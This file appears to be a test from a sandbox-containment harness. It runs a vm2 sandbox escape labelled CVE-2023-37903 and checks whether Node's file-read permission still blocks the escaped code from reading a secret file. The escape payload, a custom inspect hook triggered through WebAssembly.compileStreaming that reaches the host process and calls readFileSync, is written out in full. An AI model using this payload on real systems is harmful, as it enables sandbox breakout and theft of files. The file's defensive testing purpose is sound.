// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { layVm2 } from "../harness/vm2.ts";

export const hostile: Attack = {
  claim: "Who escapes from vm2 by a custom inspection (CVE-2023-37903) is still within the walls",
  proof: "secret",
  oldPackages: true,
  grants: (site) => [`--allow-fs-read=${site.granted}`],
  prepare: layVm2,
  program: async (cell) => {
    type Sandbox = new (options: object) => { run(code: string): unknown };
    const { VM } = require(cell.text("vm2")) as { VM: Sandbox };
    const found: unknown[] = [];
    const vm = new VM({ sandbox: { tell: (value: unknown) => void found.push(value), path: cell.secret } });
    const take =
      "const take = (process) => { try { tell(process.getBuiltinModule('fs').readFileSync(path, 'utf8')); } catch (error) { tell('refused ' + error.code); } };";
    try {
      vm.run(`${take}
        const inspect = Symbol.for("nodejs.util.inspect.custom");
        const object = {
          [inspect]: (depth, options, inspector) => {
            inspector.constructor("return process")().nextTick;
            take(inspector.constructor("return process")());
          },
          valueOf: undefined,
          constructor: undefined,
        };
        WebAssembly.compileStreaming(object).catch(() => {});`);
    } catch {
      // What the sandbox makes of its own escape does not matter.
    }
    await cell.sleep(50);
    const said = found.map(String).find((text) => text.startsWith("refused "));
    if (said !== undefined) cell.refused(said.slice(8));
    return cell.loot(found.join());
  },
};
